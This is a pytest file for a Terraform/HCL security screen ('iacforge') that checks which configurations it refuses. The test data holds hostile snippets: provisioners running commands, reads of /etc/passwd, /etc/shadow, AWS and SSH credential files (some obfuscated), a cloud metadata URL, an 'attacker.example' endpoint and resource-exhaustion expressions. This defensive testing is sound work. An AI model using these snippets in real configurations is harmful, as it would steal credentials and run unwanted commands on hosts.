"""The screen's rules: what each refuses (with file, line and address) and what it lets through."""

import json

import pytest

from iacforge.hcl.lexer import calls, tokenize
from iacforge.hcl.parse import parse_files
from iacforge.verify.screen.policy import PACKAGED, PolicyError, ScreenPolicy
from iacforge.verify.screen.rules import screen, source_kind

POLICY = ScreenPolicy.load()


def findings(text: str, name: str = "main.tf", policy: ScreenPolicy = POLICY,
             **more: str) -> list[tuple[str, str | None, int | None]]:
    """(rule, file, line) of every finding on the files `{name: text, **more}`."""
    model = parse_files({name: text, **more}).model
    assert model is not None, "the snippet must parse"
    return [(d.rule_id.rsplit("/", 1)[1], d.file, d.line) for d in screen(model, policy)]


def rules(text: str, **kwargs) -> set[str]:
    return {rule for rule, _, _ in findings(text, **kwargs)}


SAFE = """
variable "name" {
  type    = string
  default = "logs"
}

locals {
  policy_file = "${path.module}/policy.json"
  zones       = [for i in range(3) : "us-east-1${["a", "b", "c"][i]}"]
}

resource "aws_s3_bucket" "pass_bucket" {
  count  = 3
  bucket = format("%s-%03d", var.name, count.index)
  tags   = { Owner = upper("team"), Size = pow(2, 10) }
}

resource "aws_iam_policy" "pass_policy" {
  policy = file("${path.module}/policy.json")
}

resource "terraform_data" "pass_data" {
  input = templatefile("templates/user_data.tpl", { name = var.name })
}

module "pass_local" {
  source = "./modules/queue"
}

output "pass_files" {
  value = [for f in fileset(path.module, "policies/*.json") : file("${path.module}/${f}")]
}
"""


def test_an_ordinary_configuration_passes():
    assert findings(SAFE) == []


@pytest.mark.parametrize(("snippet", "rule"), [
    ('resource "aws_instance" "x" {\n  provisioner "local-exec" {\n    command = "id"\n  }\n}\n',
     "provisioner"),
    ('resource "aws_instance" "x" {\n  provisioner "remote-exec" {\n    inline = ["id"]\n  }\n}\n',
     "provisioner"),
    ('resource "terraform_data" "x" {\n  provisioner "file" {\n    source = "a"\n'
     '    destination = "/b"\n  }\n}\n', "provisioner"),
    ('data "external" "x" {\n  program = ["sh", "-c", "id"]\n}\n', "provider"),
    ('data "http" "x" {\n  url = "http://169.254.169.254/"\n}\n', "provider"),
    ('resource "null_resource" "x" {}\n', "provider"),
    ('resource "local_file" "x" {\n  filename = "/tmp/x"\n  content = "x"\n}\n', "provider"),
    ('data "archive_file" "x" {\n  type = "zip"\n  source_dir = "/"\n'
     '  output_path = "x.zip"\n}\n', "provider"),
    ('terraform {\n  required_providers {\n    run = { source = "hashicorp/external" }\n  }\n}\n',
     "provider"),
    ('check "c" {\n  data "http" "h" {\n    url = "http://x"\n  }\n  assert {\n'
     '    condition = true\n    error_message = "x"\n  }\n}\n', "provider"),
    ('data "terraform_remote_state" "x" {\n  backend = "local"\n'
     '  config = { path = "state.tfstate" }\n}\n', "type"),
    ('module "m" {\n  source = "git::https://example.com/m.git"\n}\n', "module-source"),
    ('module "m" {\n  source = "s3::https://s3.amazonaws.com/bucket/m.zip"\n}\n', "module-source"),
    ('module "m" {\n  source = "../outside"\n}\n', "module-source"),
    ('module "m" {\n  source = "/opt/modules/x"\n}\n', "module-source"),
    ('terraform {\n  backend "local" {\n    path = "/root/other.tfstate"\n  }\n}\n',
     "backend-path"),
    ('output "x" {\n  value = file("/etc/passwd")\n}\n', "host-path"),
    ('output "x" {\n  value = file("~/.aws/credentials")\n}\n', "host-path"),
    ('output "x" {\n  value = file("${path.module}/../../secret")\n}\n', "host-path"),
    ('output "x" {\n  value = templatefile("${path.root}/../t.tpl", {})\n}\n', "host-path"),
    ('output "x" {\n  value = fileset("/etc", "*")\n}\n', "host-path"),
    ('output "x" {\n  value = fileset(path.module, "../../**")\n}\n', "host-path"),
    ('output "x" {\n  value = filebase64(pathexpand("~/.ssh/id_rsa"))\n}\n', "host-path"),
    ('output "x" {\n  value = file("\\u002fetc/passwd")\n}\n', "host-path"),
    ('output "x" {\n  value = file(base64decode("L2V0Yy9wYXNzd2Q="))\n}\n', "host-path"),
    ('output "x" {\n  value = file(join("", ["/et", "c/passwd"]))\n}\n', "host-path"),
    ('variable "key" {\n  default = "/root/.ssh/id_rsa.pub"\n}\n'
     'output "x" {\n  value = file(var.key)\n}\n', "host-path"),
    ('resource "aws_s3_object" "x" {\n  bucket = "b"\n  key = "k"\n'
     '  source = "/etc/shadow"\n}\n', "host-path"),
    ('resource "aws_sns_topic_subscription" "x" {\n  topic_arn = "arn"\n'
     '  protocol = "https"\n  endpoint = "https://attacker.example"\n}\n', "argument"),
    ('resource "aws_s3_bucket" "x" {\n  count = 100000\n}\n', "count"),
    ('variable "n" {\n  default = 5000000\n}\nresource "aws_s3_bucket" "x" {\n'
     '  count = var.n\n}\n', "count"),
    ('locals {\n  xs = range(100000000)\n}\n', "range"),
    ('locals {\n  xs = range(0, 1, 0.00001)\n}\n', "range"),
    ('locals {\n  x = pow(10, pow(10, 8))\n}\n', "pow"),
    ('locals {\n  x = pow(10, 100000000)\n}\n', "pow"),
    ('locals {\n  x = format("%0999999999d", 1)\n}\n', "format"),
    ('locals {\n  x = formatlist("%*d", [1000000000], [1])\n}\n', "format"),
])
def test_each_threat_is_refused(snippet, rule):
    assert rule in rules(snippet)


def test_a_finding_names_its_file_line_and_address():
    text = ('resource "aws_instance" "web" {\n  ami = "ami-1"\n'
            '  provisioner "local-exec" {\n    command = "curl evil"\n  }\n}\n')
    (diagnostic,) = screen(parse_files({"web.tf": text}).model, POLICY)
    assert (diagnostic.severity, diagnostic.file, diagnostic.line, diagnostic.address) == (
        "error", "web.tf", 3, "aws_instance.web")
    assert diagnostic.summary == 'provisioner "local-exec" is not allowed'
    assert diagnostic.rule_id == "iacforge/screen/provisioner"


def test_expression_findings_point_at_the_call():
    text = 'locals {\n  a = 1\n  b = upper(\n    file("/etc/hostname")\n  )\n}\n'
    assert findings(text) == [("host-path", "main.tf", 4)]
    (diagnostic,) = screen(parse_files({"main.tf": text}).model, POLICY)
    assert diagnostic.address == "locals"
    assert "'/etc/hostname'" in diagnostic.detail


def test_a_local_is_followed_to_the_path_it_holds():
    text = 'locals {\n  p = "~/.aws/credentials"\n  h = <<EOT\nkey: ${file(local.p)}\nEOT\n}\n'
    (diagnostic,) = screen(parse_files({"main.tf": text}).model, POLICY)
    assert diagnostic.line == 4
    assert diagnostic.detail.startswith('local.p is "~/.aws/credentials"')


def test_comments_and_literal_text_are_not_calls():
    text = ('# file("/etc/passwd")\nlocals {\n  a = "file(/etc/passwd) is $${file("/x")}"\n'
            '  /* pow(10, pow(10, 9)) */\n  b = 1\n}\n')
    assert findings(text) == []


def test_tf_json_is_screened_like_hcl():
    doc = {"resource": {"aws_instance": {"x": {
        "ami": "${file(\"/etc/passwd\")}",
        "provisioner": [{"local-exec": {"command": "id"}}]}}},
        "module": {"m": {"source": "git::https://example.com/m.git"}}}
    text = json.dumps(doc, indent=2)
    found = findings(text, name="main.tf.json")
    assert found == [("host-path", "main.tf.json", 5), ("provisioner", "main.tf.json", 8),
                     ("module-source", "main.tf.json", 18)]


def test_size_and_nesting_limits():
    assert rules(f'locals {{\n  s = "{"x" * 300_000}"\n}}\n') == {"string-size"}
    assert rules("locals {\n  x = " + "[" * 60 + "1" + "]" * 60 + "\n}\n") == {"nesting"}
    json_deep = '{"locals": {"x": ' + "[" * 60 + "1" + "]" * 60 + "}}"
    assert rules(json_deep, name="main.tf.json") == {"nesting"}
    many = {f"f{i}.tf": "locals {}\n" for i in range(70)}
    assert rules("locals {}\n", **many) == {"file-count"}


def test_policy_overrides_change_the_verdict():
    snippet = 'module "m" {\n  source = "terraform-aws-modules/vpc/aws"\n}\n'
    local_only = ScreenPolicy.load(overrides={"module_sources": {"allow": ["local"]}})
    assert rules(snippet) == set()  # the packaged policy leaves a registry module to validate
    assert rules(snippet, policy=local_only) == {"module-source"}
    strict = ScreenPolicy.load(overrides={"providers": {"others": "unsafe"},
                                          "limits": {"max_count": 2}})
    assert rules('resource "random_id" "x" {\n  count = 3\n  byte_length = 4\n}\n',
                 policy=strict) == {"provider", "count"}


def test_a_policy_file_replaces_the_packaged_one(tmp_path):
    data = json.loads(PACKAGED.read_text())
    data["provisioners"]["allow"] = ["local-exec"]
    path = tmp_path / "policy.json"
    path.write_text(json.dumps(data))
    assert ScreenPolicy.load(path).allowed_provisioners == {"local-exec"}
    assert ScreenPolicy.load(overrides=str(path)).allowed_provisioners == {"local-exec"}


@pytest.mark.parametrize(("data", "message"), [
    ({"limit": {}}, "unknown key"),
    ({"providers": {"allow": []}}, "missing or mistypes"),
])
def test_a_broken_policy_says_what_to_fix(data, message):
    with pytest.raises(PolicyError, match=message):
        ScreenPolicy.from_dict(data)


@pytest.mark.parametrize(("source", "file", "kind"), [
    ("./modules/a", "main.tf", "local"),
    ("../b", "modules/a/main.tf", "local"),
    ("../../b", "modules/a/main.tf", "local"),
    ("../../../b", "modules/a/main.tf", "escaping"),
    ("./x/../../y", "main.tf", "escaping"),
    ("/abs/path", "main.tf", "absolute"),
    ("git::https://x/y.git", "main.tf", "git"),
    ("github.com/hashicorp/example", "main.tf", "git"),
    ("https://example.com/m.zip", "main.tf", "http"),
    ("s3::https://s3.amazonaws.com/b/m.zip", "main.tf", "s3"),
    ("hashicorp/consul/aws", "main.tf", "registry"),
    ("app.terraform.io/org/m/aws", "main.tf", "registry"),
])
def test_module_source_kinds(source, file, kind):
    assert source_kind(source, file) == kind


def test_the_lexer_finds_calls_and_their_arguments():
    text = 'x = templatefile("${path.module}/t.tpl", { a = [1, f("b")] })\n'
    found = {c.name: [[t.text for t in arg] for arg in c.args] for c in calls(tokenize(text))}
    assert found["templatefile"] == [
        ['"', "${", "path", ".", "module", "}", "/t.tpl", '"'],
        ["{", "a", "=", "[", "1", ",", "f", "(", '"', "b", '"', ")", "]", "}"],
    ]
    assert found["f"] == [['"', "b", '"']]
